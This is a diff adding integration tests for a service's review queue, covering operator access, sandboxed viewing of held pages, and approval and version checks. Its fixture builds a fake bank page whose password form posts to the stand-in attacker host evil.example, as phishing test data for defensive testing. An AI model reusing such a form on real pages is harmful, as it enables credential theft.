@@ -1,0 +1,168 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { CreatedOwner } from '../../service/accounts/create-owner.ts';
+import { setOperator } from '../../service/accounts/set-operator.ts';
+import { ApiCaller } from '../support/api-caller.ts';
+import { signedIn } from '../support/console.ts';
+import { CookieBrowser } from '../support/cookie-browser.ts';
+import { type StartedService, startService } from '../support/service.ts';
+
+let service: StartedService;
+let operator: CookieBrowser;
+let owner: CreatedOwner;
+
+beforeAll(async () => {
+  service = await startService();
+  const runs = await service.createOwner({ email: 'operator@linkwake.example' });
+  await setOperator(service.db, { email: 'Operator@linkwake.example', isOperator: true });
+  operator = await signedIn(service, runs);
+});
+
+afterAll(() => service.stop());
+
+const bank = (words: string) =>
+  `<!doctype html><title>Bank</title><h1>${words}</h1><form action="https://evil.example/"><input type="password"></form>`;
+
+interface Held {
+  uuid: string;
+  link: string;
+  browser: CookieBrowser;
+  caller: ApiCaller;
+}
+
+/** A document of another workspace that is held. */
+async function held(words = 'Sign in'): Promise<Held> {
+  owner = await service.createOwner();
+  const caller = new ApiCaller(service.baseUrl, owner.apiKey);
+  const { uuid, link, review_status } = (await caller.send('POST', '/documents', { html: bank(words) })).body;
+  expect(review_status).toBe('held');
+  return { uuid, link, caller, browser: await signedIn(service, owner) };
+}
+
+const queue = async () => (await operator.get(`${service.baseUrl}/review`)).text();
+const post = (path: string, fields: Record<string, string>, by = operator) => by.post(service.baseUrl + path, fields);
+
+/** The version the queue shows for a document. */
+async function versionOf(uuid: string): Promise<string> {
+  return (
+    new RegExp(`/review/${uuid}/approve"><input type="hidden" name="version" value="([\\w-]+)"`).exec(
+      await queue(),
+    )?.[1] ?? ''
+  );
+}
+
+/** Where the operator looks at a document. */
+async function lookAddress(uuid: string): Promise<string> {
+  const answer = await operator.get(`${service.baseUrl}/review/${uuid}/look`);
+  expect(answer.status).toBe(303);
+  return answer.headers.get('location') ?? '';
+}
+
+const frameOf = (page: string) => /<iframe[^>]* src="([^"]*)"/.exec(page)?.[1] ?? '';
+
+describe('the review queue', () => {
+  it('is there for operators alone', async () => {
+    const { uuid, browser } = await held();
+    const version = await versionOf(uuid);
+    for (const path of ['/review', `/review/${uuid}/look`]) {
+      expect((await browser.get(service.baseUrl + path)).status).toBe(404);
+      const answer = await new CookieBrowser().get(service.baseUrl + path);
+      expect(answer.headers.get('location')).toContain('/sign-in');
+    }
+    for (const path of [`/review/${uuid}/approve`, `/review/${uuid}/keep`]) {
+      expect((await post(path, { version, reason: 'x' }, browser)).status).toBe(404);
+      const foreign = { origin: service.linkHost, 'sec-fetch-site': 'same-site' };
+      expect((await operator.post(service.baseUrl + path, { version, reason: 'x' }, foreign)).status).toBe(403);
+    }
+    expect(await (await browser.get(`${service.baseUrl}/documents`)).text()).not.toContain('href="/review"');
+    expect(await (await operator.get(`${service.baseUrl}/documents`)).text()).toContain('href="/review"');
+    await setOperator(service.db, { email: 'operator@linkwake.example', isOperator: false });
+    expect((await operator.get(`${service.baseUrl}/review`)).status).toBe(404);
+    await setOperator(service.db, { email: 'operator@linkwake.example', isOperator: true });
+  });
+
+  it('shows a held page of any workspace in its sandbox, and counts nothing', async () => {
+    const { uuid, link } = await held('Give me your password');
+    expect(await queue()).toContain(owner.email);
+    expect((await fetch(link)).status).toBe(403);
+    const address = await lookAddress(uuid);
+    expect(address.startsWith(`${service.linkHost}/review/`)).toBe(true);
+    const look = await fetch(address);
+    const page = await look.text();
+    expect(look.status).toBe(200);
+    expect(look.headers.get('content-security-policy')).toContain(`frame-src ${frameOf(page)}`);
+    expect(look.headers.get('content-security-policy')).not.toContain('script-src');
+    expect(page).toContain('sandbox="allow-scripts"');
+    expect(page).not.toMatch(/<script|data-beacon/);
+    const content = await fetch(frameOf(page));
+    expect(await content.text()).toContain('Give me your password');
+    expect(content.headers.get('content-security-policy')).toMatch(/^sandbox (?!.*allow-same-origin)/);
+    const views = await service.db.selectFrom('views').select('id').where('document_id', '=', uuid).execute();
+    expect(views).toEqual([]);
+  });
+
+  it('gives looks that are worth nothing for what is not held, and nothing when forged', async () => {
+    const { uuid } = await held();
+    const address = await lookAddress(uuid);
+    const content = frameOf(await (await fetch(address)).text());
+    await post(`/review/${uuid}/approve`, { version: await versionOf(uuid) });
+    expect((await fetch(address)).status).toBe(404);
+    expect((await fetch(content)).status).toBe(410);
+    expect((await operator.get(`${service.baseUrl}/review/${uuid}/look`)).status).toBe(404);
+    expect((await fetch(`${service.linkHost}/review/forged.pass`)).status).toBe(404);
+    expect((await operator.get(`${service.baseUrl}/review/x/look`)).status).toBe(404);
+  });
+
+  it('lets a page through, for the API and for visitors, and says so to its owner', async () => {
+    const { uuid, link, caller, browser } = await held('Now open');
+    expect((await post(`/review/${uuid}/approve`, { version: await versionOf(uuid) })).status).toBe(303);
+    expect((await caller.get(`/documents/${uuid}`)).body.review_status).toBeNull();
+    expect((await fetch(link)).status).toBe(200);
+    expect(await queue()).not.toContain(uuid);
+    const page = await (await browser.get(`${service.baseUrl}/documents/${uuid}/`)).text();
+    expect(page).toContain('It was held for review and approved on');
+  });
+
+  it('keeps a page held with a reason that its owner reads, until it is replaced', async () => {
+    const { uuid, link, caller, browser } = await held();
+    const version = await versionOf(uuid);
+    const empty = await post(`/review/${uuid}/keep`, { version, reason: ' ' });
+    expect([empty.status, await empty.text()]).toEqual([422, expect.stringContaining('Say why')]);
+    expect((await post(`/review/${uuid}/keep`, { version, reason: 'It imitates a <bank>.' })).status).toBe(303);
+    expect(await queue()).toMatch(new RegExp(`Looked at and kept held.*${uuid}`, 's'));
+    expect((await caller.get(`/documents/${uuid}`)).body.review_status).toBe('held');
+    expect((await fetch(link)).status).toBe(403);
+    const page = () => browser.get(`${service.baseUrl}/documents/${uuid}/`).then((answer) => answer.text());
+    expect(await page()).toContain('keeps it held: It imitates a &lt;bank&gt;.');
+    await caller.send('PUT', `/documents/${uuid}/content`, { html: '<!doctype html><p>Nothing to hide' });
+    expect(await page()).toContain('They see it once it is approved.');
+    expect(await queue()).not.toMatch(new RegExp(`Looked at and kept held.*${uuid}`, 's'));
+  });
+
+  it('decides on what was looked at, not on what was put in its place', async () => {
+    const { uuid, caller } = await held('First');
+    const version = await versionOf(uuid);
+    await caller.send('PUT', `/documents/${uuid}/content`, { html: bank('Second') });
+    for (const [path, reason] of [
+      ['approve', ''],
+      ['keep', 'Because'],
+    ] as const) {
+      const answer = await post(`/review/${uuid}/${path}`, { version, reason });
+      expect(answer.status).toBe(422);
+      expect(await answer.text()).toContain('The content was replaced after you opened it.');
+    }
+    expect((await caller.get(`/documents/${uuid}`)).body.review_status).toBe('held');
+  });
+
+  it('is not got round by going back to a version that was never approved', async () => {
+    const { uuid, link, caller, browser } = await held('Never approved');
+    await caller.send('PUT', `/documents/${uuid}/content`, { html: '<!doctype html><p>Harmless' });
+    await post(`/review/${uuid}/approve`, { version: await versionOf(uuid) });
+    expect((await fetch(link)).status).toBe(200);
+    await post(`/documents/${uuid}/versions/1/restore`, {}, browser);
+    expect((await fetch(link)).status).toBe(403);
+    await post(`/review/${uuid}/approve`, { version: await versionOf(uuid) });
+    await post(`/documents/${uuid}/versions/2/restore`, {}, browser);
+    await post(`/documents/${uuid}/versions/1/restore`, {}, browser);
+    expect((await fetch(link)).status).toBe(200);
+  });
+});
